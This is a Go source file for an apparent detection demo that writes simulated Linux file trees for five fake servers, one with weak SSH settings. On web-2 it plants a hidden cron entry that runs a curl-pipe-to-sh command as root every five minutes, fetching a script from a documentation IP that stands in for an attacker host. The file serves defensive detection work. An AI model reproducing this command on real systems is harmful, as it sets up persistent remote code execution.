package demo

import (
	"fmt"
	"os"
	"path/filepath"
	"time"
)

// indicator is what the second query looks for: an address of those that are
// kept for documentation (RFC 5737).
const indicator = "198.51.100.7"

// A machine is one of those that the demo pretends to have: a tree of files
// with an agent of its own.
type machine struct {
	name  string
	role  string            // its token's tag
	files map[string]string // by path; those of every machine come on top
}

// everywhere is what all machines have.
var everywhere = map[string]string{
	"etc/passwd":         "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n",
	"etc/hosts":          "127.0.0.1 localhost\n",
	"etc/cron.d/backup":  "15 3 * * * root /usr/local/bin/backup\n",
	"etc/ssh/ssh_config": "Host *\n    HashKnownHosts yes\n",
}

const (
	debian12 = "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n"
	debian11 = "ID=debian\nVERSION_ID=\"11\"\nPRETTY_NAME=\"Debian GNU/Linux 11 (bullseye)\"\n"
	rocky9   = "ID=rocky\nVERSION_ID=\"9.4\"\nPRETTY_NAME=\"Rocky Linux 9.4 (Blue Onyx)\"\n"
	ubuntu24 = "ID=ubuntu\nVERSION_ID=\"24.04\"\nPRETTY_NAME=\"Ubuntu 24.04.1 LTS\"\n"

	sshStrict = "Port 22\nPermitRootLogin no\nPasswordAuthentication no\n"
	sshLoose  = "Port 22\nPermitRootLogin yes\nPasswordAuthentication yes\n"
)

// machines lists those of the demo. One has the indicator, and one lets root
// in by ssh.
func machines() []machine {
	return []machine{
		{"web-1", "web", map[string]string{
			"etc/os-release": debian12, "etc/ssh/sshd_config": sshStrict,
			"etc/nginx/nginx.conf": "worker_processes auto;\nevents { worker_connections 768; }\n",
		}},
		{"web-2", "web", map[string]string{
			"etc/os-release": debian12, "etc/ssh/sshd_config": sshStrict,
			"etc/nginx/nginx.conf": "worker_processes auto;\nevents { worker_connections 768; }\n",
			"etc/cron.d/.sysupd":   "*/5 * * * * root curl -s http://" + indicator + "/u.sh | sh\n",
		}},
		{"db-1", "db", map[string]string{
			"etc/os-release": rocky9, "etc/ssh/sshd_config": sshLoose,
			"etc/postgresql/postgresql.conf": "listen_addresses = '10.0.4.7'\nmax_connections = 200\n",
		}},
		{"mail-1", "mail", map[string]string{
			"etc/os-release": debian11, "etc/ssh/sshd_config": sshStrict,
			"etc/postfix/main.cf": "myhostname = mail-1.example.org\ninet_interfaces = all\n",
		}},
		{"ci-1", "ci", map[string]string{
			"etc/os-release": ubuntu24, "etc/ssh/sshd_config": sshStrict,
			"etc/gitlab-runner/config.toml": "concurrent = 4\n",
		}},
	}
}

// lastChange is when files of the fixture last changed, so that the answers
// look the same each time; the planted one changed a little later.
var lastChange = time.Date(2026, 3, 14, 9, 30, 0, 0, time.UTC)

// plant writes the tree of a machine below root.
func (m machine) plant(root string) error {
	files := map[string]string{"etc/hostname": m.name + "\n"}
	for _, set := range []map[string]string{everywhere, m.files} {
		for name, text := range set {
			files[name] = text
		}
	}
	for name, text := range files {
		at := filepath.Join(root, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(at), 0o755); err != nil {
			return fmt.Errorf("the tree of %s: %w", m.name, err)
		}
		if err := os.WriteFile(at, []byte(text), 0o644); err != nil {
			return fmt.Errorf("the tree of %s: %w", m.name, err)
		}
		if err := os.Chtimes(at, lastChange, lastChange); err != nil {
			return fmt.Errorf("the tree of %s: %w", m.name, err)
		}
	}
	return nil
}
